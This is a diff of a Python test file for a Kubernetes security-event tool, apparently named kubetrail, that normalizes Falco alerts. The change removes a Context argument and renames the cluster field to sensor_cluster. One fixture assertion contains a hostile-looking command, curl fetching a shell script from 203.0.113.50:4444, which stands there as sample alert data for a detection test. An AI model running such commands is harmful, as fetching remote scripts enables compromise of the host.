@@ -14,17 +14,16 @@ from hypothesis import strategies as st
 
 from kubetrail.ids import make_id
 from kubetrail.model import KINDS, Event
-from kubetrail.sources import Context, NormalizeError
+from kubetrail.sources import NormalizeError
 from kubetrail.sources.falco import SOURCE
 from tests.conftest import FIXTURES, load_values
 from tests.strategies import JSON_VALUES
 
 WEBSITE = Path("falco/falco-website")
-CTX = Context()
 
 
-def _event(record: Any, ctx: Context = CTX) -> Event:
-    events = list(SOURCE.normalize(record, ctx))
+def _event(record: Any) -> Event:
+    events = list(SOURCE.normalize(record))
     assert len(events) == 1
     return events[0]
 
@@ -52,7 +51,7 @@ def test_malformed_time_falls_back_to_microsecond_evt_time(corpora: Path) -> Non
     assert (e.rule, e.priority, e.sensor_source, e.node, e.tags) == ("Fake rule", "Error", None, None, None)
     assert e.summary == "A more realistic test event"
     assert (e.binary, e.args, e.process_user, e.file_path) == ("touch", "/bin/hack", "root", "/bin/hack")
-    assert e.raw is None and e.cluster is None
+    assert e.raw is None and e.sensor_cluster is None
 
 
 def test_syscall_alert_maps_process_and_container(corpora: Path) -> None:
@@ -175,7 +174,7 @@ def test_same_alert_twice_has_the_same_id(corpora: Path) -> None:
     a = load_values(corpora / WEBSITE / "falcosidekick-response-engine-part-2-openfass.jsonl")[0]
     (b,) = load_values(corpora / WEBSITE / "falcosidekick-response-engine-part-6-cloud-run.jsonl")
     assert _event(a).id == _event(b).id
-    assert _event(a, Context(cluster="prod")).id == _event(a).id
+    assert _event(a).id == _event(a).id
 
 
 def test_every_falco_corpus_file_normalizes(corpora: Path) -> None:
@@ -184,7 +183,7 @@ def test_every_falco_corpus_file_normalizes(corpora: Path) -> None:
     for path in files:
         for record in load_values(path):
             assert SOURCE.detect(record), path
-            for e in SOURCE.normalize(record, CTX):
+            for e in SOURCE.normalize(record):
                 assert e.time > 0 and e.kind in KINDS and e.source == "falco", path
 
 
@@ -193,9 +192,9 @@ def test_every_falco_corpus_file_normalizes(corpora: Path) -> None:
 
 def test_falcosidekick_payload_uses_uuid_and_socket_fields() -> None:
     (record,) = load_values(FIXTURES / "falco/falcosidekick_outbound.json")
-    e = _event(record, Context(cluster="prod"))
+    e = _event(record)
     assert e.id == make_id("falco", "6f7b5c0e-2a1d-4c33-9a57-0d3c8e2b1f44")
-    assert (e.format, e.cluster, e.node) == ("falcosidekick", "prod", "worker-2")
+    assert (e.format, e.sensor_cluster, e.node) == ("falcosidekick", None, "worker-2")  # Falco names no cluster
     assert (e.src_ip, e.src_port, e.dst_ip, e.dst_port, e.protocol) == ("10.244.1.17", 51234, "203.0.113.50", 4444, "TCP")
     assert e.file_path is None
     assert (e.binary, e.args, e.pid) == ("/usr/bin/curl", "-s http://203.0.113.50:4444/x.sh", 48211)
@@ -249,7 +248,7 @@ def test_host_container_is_no_container() -> None:
 )
 def test_unusable_records_raise_normalize_error(record: Any) -> None:
     with pytest.raises(NormalizeError):
-        list(SOURCE.normalize(record, CTX))
+        list(SOURCE.normalize(record))
 
 
 def test_detect_rejects_other_sources(corpora: Path) -> None:
@@ -286,7 +285,7 @@ def test_detect_never_raises(value: Any) -> None:
 @given(st.dictionaries(st.sampled_from(["rule", "priority", "output", "time", "output_fields", "hostname"]), JSON_VALUES))
 def test_normalize_returns_an_event_or_raises_normalize_error(value: dict[str, Any]) -> None:
     try:
-        events = list(SOURCE.normalize(value, CTX))
+        events = list(SOURCE.normalize(value))
     except NormalizeError:
         return
     assert len(events) == 1 and events[0].kind in KINDS
